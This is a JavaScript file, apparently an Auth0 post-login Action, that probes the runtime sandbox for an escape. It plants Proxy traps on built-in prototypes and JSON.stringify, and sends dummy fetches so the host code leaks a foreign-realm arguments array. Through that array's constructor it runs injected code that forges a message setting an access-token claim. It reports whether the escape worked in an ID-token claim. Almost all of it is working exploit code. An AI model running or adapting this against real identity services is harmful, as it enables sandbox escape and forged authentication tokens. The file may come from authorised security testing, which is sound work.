// the method and the address of a request that are no text, whose methods the core would call
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  let args;
  const trap = new Proxy(() => 'GET', { apply(_target, _self, list) { args ??= list; return 'GET'; } });
  const object = { length: 1e3, slice: trap, toUpperCase: trap, endsWith: trap, startsWith: trap, indexOf: trap, toString: trap };
  for (const name of ['method', 'url', 'headers']) {
    const own = Object.getOwnPropertyDescriptor(Request.prototype, name);
    Object.defineProperty(Request.prototype, name, { configurable: true, get: () => object });
    await fetch('https://nowhere.example.com/' + name, { method: 'POST', body: 'x' }).catch(() => {});
    Object.defineProperty(Request.prototype, name, own);
  }
  const { stringify } = JSON;
  JSON.stringify = () => object;
  await fetch('https://nowhere.example.com/').catch(() => {});
  JSON.stringify = stringify;
  for (const C of [Request, Response, Headers, Uint8Array, ArrayBuffer, String]) for (const name of ['toString', 'slice', 'clone', 'arrayBuffer', 'forEach', 'toUpperCase']) { const own = Object.getOwnPropertyDescriptor(C.prototype, name); if (own?.configurable) { Object.defineProperty(C.prototype, name, { ...own, value: trap }); await fetch('https://nowhere.example.com/').catch(() => {}); Object.defineProperty(C.prototype, name, own); } }
  const foreign = args && args.constructor !== Array;
  if (foreign) {
    try { args.constructor.constructor(`const real = JSON.stringify; JSON.stringify = (v, ...r) => v === 'x' ? '""},"type":"effect","data":{"method":"accessToken.setCustomClaim","arguments":["FORGED",1]' : real(v, ...r);`)(); console.log('x'); } catch {}
  }
  out(foreign ? 'ESCAPED:an array of the core' : 'BLOCKED:nothing worked');
};
